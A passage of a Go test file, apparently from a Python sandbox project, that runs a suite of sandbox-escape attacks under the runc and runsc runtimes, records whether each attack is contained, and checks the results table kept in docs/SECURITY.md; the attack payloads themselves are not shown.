			// Control runs prove a target reachable with networking on; they
			// use runc, which can share the host's network.
			ctrl, _ := newSandbox(Options{Image: image}, engineParts{ctr: hostNetEngine{base.ctr}, lst: base.lst}, zerolog.Nop())
			defer func() {
				s.Close(context.Background())
				ctrl.Close(context.Background())
				base.Close(context.Background())
			}()
			for i, a := range list {
				t.Run(a.name, func(t *testing.T) {
					env := attackEnv{
						tcpPort:    tcp.Addr().(*net.TCPAddr).Port,
						tcp6Port:   tcp6.Addr().(*net.TCPAddr).Port,
						udpPort:    udp.LocalAddr().(*net.UDPAddr).Port,
						canaryFile: canary, canaryEnv: canaryEnv,
						marker: "pybox-attack-" + NewID()[:10],
						udpGot: func() []string { udpMu.Lock(); defer udpMu.Unlock(); return slices.Clone(udpGot) },
					}
					verdict := "contained"
					var aerr error
					if a.special != nil {
						aerr = a.special(t, s, env)
					} else {
						timeout := a.timeout
						if timeout == 0 {
							timeout = 30 * time.Second
						}
						start := time.Now()
						res := s.Run(context.Background(), Request{Code: prelude + a.code(env), Timeout: timeout})
						el := time.Since(start)
						if a.check != nil {
							aerr = a.check(t, env, res, el)
						} else {
							aerr = blockedOnly(res)
						}
						t.Logf("exit %d error %q in %v: %.300s", res.ExitCode, res.Error, el.Round(time.Millisecond), strings.TrimSpace(res.Stdout))
						if a.control != nil && aerr == nil {
							cres := ctrl.Run(context.Background(), Request{Code: prelude + a.code(env), Timeout: timeout})
							if cerr := a.control(env, cres); cerr != nil {
								t.Errorf("control run: %v", cerr)
								verdict = "control failed"
							}
						}
					}
					if aerr != nil {
						t.Errorf("%s under %s got through: %v", a.name, rt, aerr)
						verdict = "ESCAPED"
					}
					// The sandbox still serves a normal call.
					if h := s.Run(context.Background(), Request{Code: "print(6*7)"}); h.Stdout != "42\n" {
						t.Errorf("after %s the sandbox does not serve: %q %q %s", a.name, h.Stdout, h.Stderr, h.Error)
						verdict = "server unhealthy"
					}
					results[i].verdict[rt] = verdict
				})
			}
			pe.mu.Lock()
			defer pe.mu.Unlock()
			for _, f := range pe.faults {
				t.Errorf("posture under %s: %s", rt, f)
			}
			if pe.checked < len(list) {
				t.Errorf("the engine's inspection checked %d containers; want at least %d", pe.checked, len(list))
			}
			t.Logf("posture: %d containers inspected under %s, %d faults", pe.checked, rt, len(pe.faults))
			if left := owned(t, s); len(left) > 0 {
				t.Errorf("containers left: %v", left)
			}
		})
	}

	if err := noProcess("pybox-attack-"); err != nil {
		t.Errorf("after the suite: %v", err)
	}
	table := resultsTable(results, runtimes)
	contained := 0
	for _, r := range results {
		all := true
		for _, rt := range runtimes {
			all = all && r.verdict[rt] == "contained"
		}
		if all {
			contained++
		}
	}
	fmt.Printf("\nattack suite: %d attacks, %d contained under %s\n\n%s\n", len(results), contained, strings.Join(runtimes, " and "), table)
	checkSecurityDoc(t, table, runtimes)
}

// resultsTable renders the results as docs/SECURITY.md shows them.
func resultsTable(results []*attackResult, runtimes []string) string {
	var b strings.Builder
	b.WriteString("| # | attack | threat | safe outcome |")
	for _, rt := range []string{"runc", "runsc"} {
		b.WriteString(" " + rt + " |")
	}
	b.WriteString("\n|---|---|---|---|---|---|\n")
	for i, r := range results {
		fmt.Fprintf(&b, "| %d | %s | %s | %s |", i+1, r.name, r.threat, r.outcome)
		for _, rt := range []string{"runc", "runsc"} {
			v := r.verdict[rt]
			if v == "" {
				v = "not run"
			}
			b.WriteString(" " + v + " |")
		}
		b.WriteString("\n")
	}
	return b.String()
}

const (
	docBegin = "<!-- attack-results:begin (written by TestAttackSuite) -->\n"
	docEnd   = "<!-- attack-results:end -->"
)

// checkSecurityDoc compares the results table in docs/SECURITY.md with the
// one this run printed, or rewrites it with PYBOX_UPDATE_DOCS=1. A run
// without runsc does not judge the table, which has a column for it.
func checkSecurityDoc(t *testing.T, table string, runtimes []string) {
	path := "../docs/SECURITY.md"
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	doc := string(b)
	i, j := strings.Index(doc, docBegin), strings.Index(doc, docEnd)
	if i < 0 || j < i {
		t.Fatalf("%s has no results block (%q ... %q)", path, docBegin, docEnd)
	}
	got := doc[i+len(docBegin) : j]
	if os.Getenv("PYBOX_UPDATE_DOCS") != "" {
		doc = doc[:i+len(docBegin)] + table + doc[j:]
		if err := os.WriteFile(path, []byte(doc), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	if len(runtimes) < 2 {
		t.Logf("not comparing %s: runsc did not run", path)
		return
	}
	if got != table {
		t.Errorf("%s's results table differs from this run's; rerun with PYBOX_UPDATE_DOCS=1 if the change is right.\nthis run:\n%s\nthe document:\n%s", path, table, got)
	}
}
